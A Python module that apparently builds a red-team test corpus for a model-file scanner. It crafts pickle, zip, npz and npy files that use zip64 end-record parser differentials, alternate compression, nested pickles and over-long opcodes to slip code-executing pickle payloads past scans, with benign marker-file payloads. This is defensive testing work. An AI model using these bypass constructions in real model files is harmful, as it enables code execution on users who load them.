"""Red team round 3: techniques built from public sources, each a file whose payload only creates a
marker file, with the loader that runs it (tests/test_scan_redteam3.py).

Sources (each technique names its own):

- CPython ``Lib/zipfile.py`` ``_EndRecData64``: whenever a zip64 end-record locator precedes the end
  record, zipfile takes the zip64 end record found *right before the locator* and uses its central
  directory, whatever the 32-bit end record says (and ignores the locator's offset);
- miniz ``mz_zip_reader_read_central_dir`` (richgel999/miniz ``miniz_zip.c``; torch's
  ``caffe2/serialize/inline_container.cc`` reads archives with it): a locator makes the archive zip64
  and its zip64 record wins over the 32-bit one; the copy torch 2.13 carries follows the locator's
  offset, newer miniz tries right before the locator first (both shown by the controls);
- "confusing" zip parsers: the same class as JFrog's CVE-2025-10156/10157 picklescan zip
  bypasses and Trail of Bits' fickling polyglot work, here on the end records instead of the members;
- numpy ``NpzFile`` reads members through ``zipfile``, which inflates bzip2 (12) and lzma (14)
  members; torch's miniz reads only stored and deflate;
- nested pickles in ``__reduce__`` arguments (``_pickle.loads`` of bytes: Trail of Bits' fickling
  "nested pickle" detection; picklescan GHSA advisories list ``pickle.loads`` gadgets);
- numpy ``.npy`` structured dtypes with an object field (``descr`` a list): ``dtype.hasobject``.
"""

from __future__ import annotations

import io
import pickle
import struct
import zipfile
import zlib
from collections import OrderedDict
from pathlib import Path

import numpy as np

from builders.pickle_opcodes import sb, system_p0
from builders.scan_corpus import (
    LOAD,
    LOAD_MEMBERS,
    NUMPY_LOAD,
    TORCH_LOAD,
    Technique,
    _object_npy,
    exec_pickle,
)

ZIPFILE = "CPython Lib/zipfile.py _EndRecData64"
MINIZ = "miniz_zip.c mz_zip_reader_read_central_dir (torch's PyTorchStreamReader)"

T3: list[Technique] = []


def technique(id: str, source: str, loader: str = LOAD, suffix: str = ".pkl", slow: bool = False):  # type: ignore[no-untyped-def]
    def register(build):  # type: ignore[no-untyped-def]
        T3.append(Technique(id, source, build, loader, suffix, slow))
        return build
    return register


# --- zip records written by hand ---------------------------------------------------------------------

def _local(name: str, data: bytes) -> bytes:
    n = name.encode()
    return struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 0, 0, 0, zlib.crc32(data), len(data),
                       len(data), len(n), 0) + n + data


def _central(name: str, data: bytes, at: int, comment: bytes = b"") -> bytes:
    n = name.encode()
    return struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, zlib.crc32(data),
                       len(data), len(data), len(n), 0, len(comment), 0, 0, 0, at) + n + comment


def _eocd(entries: int, size: int, at: int) -> bytes:
    return struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, entries, entries, size, at, 0)


def _zip64_eocd(entries: int, size: int, at: int) -> bytes:
    return struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, entries, entries, size, at)


def _locator(at: int) -> bytes:
    return struct.pack("<4sIQI", b"PK\x06\x07", 0, at, 1)


def _members(body: bytes, members: list[tuple[str, bytes]], comment: bytes = b"") -> tuple[bytes, bytes]:
    """``body`` with the members' local headers and data appended, and their central directory."""
    directory = b""
    for name, data in members:
        directory += _central(name, data, len(body), comment)
        body += _local(name, data)
    return body, directory


def zip64_other_directory(seen: list[tuple[str, bytes]], hidden: list[tuple[str, bytes]]) -> bytes:
    """A 32-bit end record naming directory A (``seen``) and a zip64 end record, right before its
    locator, naming directory B (``hidden``): zipfile and miniz both read B."""
    body, cd_a = _members(b"", seen, comment=b"x" * 7)  # A's size differs from B's: no shift found
    a_at = len(body)
    body += cd_a
    body, cd_b = _members(body, hidden)
    b_at = len(body)
    body += cd_b
    z64 = len(body)
    return (body + _zip64_eocd(len(hidden), len(cd_b), b_at) + _locator(z64)
            + _eocd(len(seen), len(cd_a), a_at))


def zip64_two_records(by_locator: list[tuple[str, bytes]], before_locator: list[tuple[str, bytes]]) -> bytes:
    """A saturated 32-bit end record, a locator whose offset names a zip64 record for directory A, and
    another zip64 record right before the locator for directory B: torch's miniz follows the locator
    (A), zipfile takes the record before it (B)."""
    body, cd_a = _members(b"", by_locator)
    a_at = len(body)
    body += cd_a
    x_at = len(body)
    body += _zip64_eocd(len(by_locator), len(cd_a), a_at)
    body, cd_b = _members(body, before_locator)
    b_at = len(body)
    body += cd_b
    body += _zip64_eocd(len(before_locator), len(cd_b), b_at) + _locator(x_at)
    return body + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)


BENIGN = pickle.dumps(OrderedDict(), protocol=2)  # what a state dict's data.pkl names: "safe"
VERSION = ("archive/version", b"3\n")


def numeric_npy() -> bytes:
    buf = io.BytesIO()
    np.save(buf, np.arange(4, dtype=np.float32))
    return buf.getvalue()


@technique("zip64-record-names-another-directory", f"{ZIPFILE}; {MINIZ}", TORCH_LOAD, ".pt", slow=True)
def zip64_torch(path: Path, marker: Path) -> None:
    path.write_bytes(zip64_other_directory([("archive/data.pkl", BENIGN), VERSION],
                                           [("archive/data.pkl", exec_pickle(marker)), VERSION]))


@technique("zip64-record-names-another-directory-zipfile", ZIPFILE, LOAD_MEMBERS, ".zip")
def zip64_zipfile(path: Path, marker: Path) -> None:
    path.write_bytes(zip64_other_directory([("weights.pkl", BENIGN)], [("weights.pkl", exec_pickle(marker))]))


@technique("zip64-record-names-another-directory-npz", f"{ZIPFILE} (numpy NpzFile)", NUMPY_LOAD, ".npz")
def zip64_npz(path: Path, marker: Path) -> None:
    path.write_bytes(zip64_other_directory([("w.npy", numeric_npy())], [("w.npy", _object_npy(marker))]))


@technique("zip64-locator-and-record-disagree", f"{ZIPFILE}; {MINIZ}", LOAD_MEMBERS, ".pt")
def zip64_locator(path: Path, marker: Path) -> None:
    path.write_bytes(zip64_two_records([("archive/data.pkl", BENIGN), VERSION],
                                       [("archive/data.pkl", exec_pickle(marker)), VERSION]))


@technique("zip64-locator-and-record-disagree-npz", f"{ZIPFILE} (numpy NpzFile)", NUMPY_LOAD, ".npz")
def zip64_locator_npz(path: Path, marker: Path) -> None:
    path.write_bytes(zip64_two_records([("w.npy", numeric_npy())], [("w.npy", _object_npy(marker))]))


@technique("zip-after-gguf-locator-signature-alone", f"{ZIPFILE} (_RealGetContents: an archive appended "
           "to other data is read shifted; 76 bytes are reckoned for zip64 records only when one is "
           "found)", LOAD_MEMBERS, ".gguf")
def zip_after_gguf(path: Path, marker: Path) -> None:
    """A whole (empty) GGUF file, then an archive whose last central record ends with a locator's
    signature and no zip64 record: zipfile finds the archive 24 bytes in; a reckoning that takes the
    signature alone for zip64 records looks 76 bytes further back and finds no directory."""
    gguf = b"GGUF" + struct.pack("<IQQ", 3, 0, 0)
    evil = exec_pickle(marker)
    body = _local("weights.pkl", evil)
    directory = _central("weights.pkl", evil, 0, comment=struct.pack("<4sIQI", b"PK\x06\x07", 0, 0, 1))
    path.write_bytes(gguf + body + directory + _eocd(1, len(directory), len(body)))


@technique("zip-directory-member-with-data", "CPython zipfile: ZipFile.read of a name ending '/' returns "
           "its bytes (is_dir() is the name alone)", LOAD_MEMBERS, ".zip")
def zip_directory_member(path: Path, marker: Path) -> None:
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("model.pkl", BENIGN)
        z.writestr("extra/", exec_pickle(marker))


@technique("zip-of-a-joblib-compressed-pickle", "joblib.load on a file object detects its compressor by "
           "prefix (joblib/numpy_pickle.py, compressor.py)",
           "import joblib, sys, zipfile; joblib.load(zipfile.ZipFile(sys.argv[1]).open('clf.pkl.z'))", ".zip")
def zip_joblib_member(path: Path, marker: Path) -> None:
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("clf.pkl.z", zlib.compress(exec_pickle(marker)))


# --- zip members zipfile inflates and torch's miniz does not ----------------------------------------

@technique("npz-bzip2-member", "CPython zipfile ZIP_BZIP2 (numpy NpzFile)", NUMPY_LOAD, ".npz")
def npz_bzip2(path: Path, marker: Path) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_BZIP2) as z:
        z.writestr("w.npy", _object_npy(marker))


@technique("npz-lzma-member", "CPython zipfile ZIP_LZMA (numpy NpzFile)", NUMPY_LOAD, ".npz")
def npz_lzma(path: Path, marker: Path) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_LZMA) as z:
        z.writestr("w.npy", _object_npy(marker))


@technique("zip-lzma-pickle-member", "CPython zipfile ZIP_LZMA + pickle.loads", LOAD_MEMBERS, ".zip")
def zip_lzma_pickle(path: Path, marker: Path) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_LZMA) as z:
        z.writestr("model.pkl", exec_pickle(marker))


# --- pickles ------------------------------------------------------------------------------------------

@technique("nested-pickle-in-reduce-args", "fickling nested-pickle detection; _pickle.loads(bytes)")
def nested_pickle(path: Path, marker: Path) -> None:
    path.write_bytes(b"\x80\x04c_pickle\nloads\n(" + sb(system_p0(marker)) + b"tR.")


@technique("first-opcode-past-the-line-limit", "CPython Lib/pickle.py load_unicode: readline() takes a "
           "line of any length; the scan reads 1 MiB")
def long_first_line(path: Path, marker: Path) -> None:
    # UNICODE with a 2 MiB line, POP, then the payload: pickle.load reads the line whole and runs on
    path.write_bytes(b"V" + b"a" * (2 << 20) + b"\n0" + system_p0(marker))


@technique("first-opcode-past-the-integer-limit", "CPython Lib/pickle.py load_long: int() of up to 4,300 "
           "digits (sys.int_info.default_max_str_digits); the scan reads 1 KiB of an integer")
def long_first_integer(path: Path, marker: Path) -> None:
    # LONG with 3,000 digits, POP, then the payload: pickle.load reads the integer and runs on
    path.write_bytes(b"L" + b"7" * 3000 + b"L\n0" + system_p0(marker))


@technique("npy-structured-object-field", "numpy.lib.format descr_to_dtype: a list descr with an 'O' "
           "field has dtype.hasobject", NUMPY_LOAD, ".npy")
def npy_structured(path: Path, marker: Path) -> None:
    header = "{'descr': [('a', '<f4'), ('b', '|O')], 'fortran_order': False, 'shape': (1,), }"
    body = pickle.dumps([0], protocol=2)[:-1] + b"0" + system_p0(marker)
    h = (header + " " * (-(10 + len(header) + 1) % 64) + "\n").encode("latin-1")
    path.write_bytes(b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h)) + h + body)
